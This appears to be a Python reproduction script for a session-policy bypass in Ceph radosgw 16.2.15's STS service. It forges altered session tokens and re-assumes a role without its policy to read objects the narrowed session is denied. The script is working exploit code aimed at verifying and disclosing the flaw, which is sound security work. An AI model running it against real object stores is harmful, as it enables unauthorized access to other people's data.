r"""radosgw 16.2.15 takes a session token that was altered, and lets a session assume its role again without its policy.

    AWS_ACCESS_KEY_ID=... AWS_SECRET_ACCESS_KEY=... \
        python reproductions/radosgw/sessions.py http://127.0.0.1:7480 arn:aws:iam:::role/NAME BUCKET

The key is that of a user who may write to the bucket and assume the role, which may do everything there. A session of
it is narrowed by a policy to the objects below `orders/`, in a folder of this script's own. Captured from radosgw
16.2.15, 2026-11-27:

    GET orders/x: 200
    GET customers/x: 403 AccessDenied
    GET customers/x, one character of the token altered: 200, with 40 of 40 such tokens
    AssumeRole of its own role, without a policy: 200, and then GET customers/x: 200

Source: https://docs.ceph.com/en/pacific/radosgw/STS/
"""

from __future__ import annotations

import json
import sys
from uuid import uuid4

import boto3
from botocore.exceptions import ClientError

TRIED = 40


def client(address: str, api: str, key: tuple[str | None, str | None, str | None]):  # noqa: ANN201 - boto3's are made at run time
    """Return a client of the store, with the environment's key where none is given."""
    return boto3.Session(*key, region_name="us-east-1").client(api, endpoint_url=address)


def get(address: str, key: tuple[str | None, str | None, str | None], bucket: str, name: str) -> str:
    """Return what the store answers to who asks for an object."""
    try:
        return str(client(address, "s3", key).get_object(Bucket=bucket, Key=name)["ResponseMetadata"]["HTTPStatusCode"])
    except ClientError as error:
        return f"{error.response['ResponseMetadata']['HTTPStatusCode']} {error.response['Error']['Code']}"


def assumed(
    address: str, key: tuple[str | None, str | None, str | None], role: str, **more: str
) -> tuple[str, str, str]:
    """Return a session's key."""
    given = client(address, "sts", key).assume_role(RoleArn=role, RoleSessionName="reproduction", **more)["Credentials"]
    return given["AccessKeyId"], given["SecretAccessKey"], given["SessionToken"]


def altered(token: str) -> list[str]:
    """Return tokens with one character altered, each at another place in the middle."""
    places = range(len(token) // 2 - TRIED // 2, len(token) // 2 + TRIED // 2)
    return [token[:at] + ("A" if token[at] != "A" else "B") + token[at + 1 :] for at in places]


def main(address: str, role: str, bucket: str) -> int:
    """Narrow a session, and try what it must not do; return 1 where it does."""
    folder, own = f"reproduction_{uuid4().hex[:8]}", (None, None, None)
    store, orders, customers = client(address, "s3", own), f"{folder}/orders/x", f"{folder}/customers/x"
    for name in (orders, customers):
        store.put_object(Bucket=bucket, Key=name, Body=b"x")
    statement = {"Effect": "Allow", "Action": ["s3:*"], "Resource": [f"arn:aws:s3:::{bucket}/{folder}/orders/*"]}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [statement]}, separators=(",", ":"))
    narrow = assumed(address, own, role, Policy=policy)
    forged = [get(address, (*narrow[:2], token), bucket, customers) for token in altered(narrow[2])]
    taken = forged.count("200")
    wider = get(address, assumed(address, narrow, role), bucket, customers)
    sys.stdout.write(
        f"GET orders/x: {get(address, narrow, bucket, orders)}\n"
        f"GET customers/x: {get(address, narrow, bucket, customers)}\n"
        f"GET customers/x, one character of the token altered: {'200' if taken else forged[0]}, "
        f"with {taken} of {TRIED} such tokens\n"
        f"AssumeRole of its own role, without a policy: 200, and then GET customers/x: {wider}\n"
    )
    for name in (orders, customers):
        store.delete_object(Bucket=bucket, Key=name)
    return int(taken > 0 or wider == "200")


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
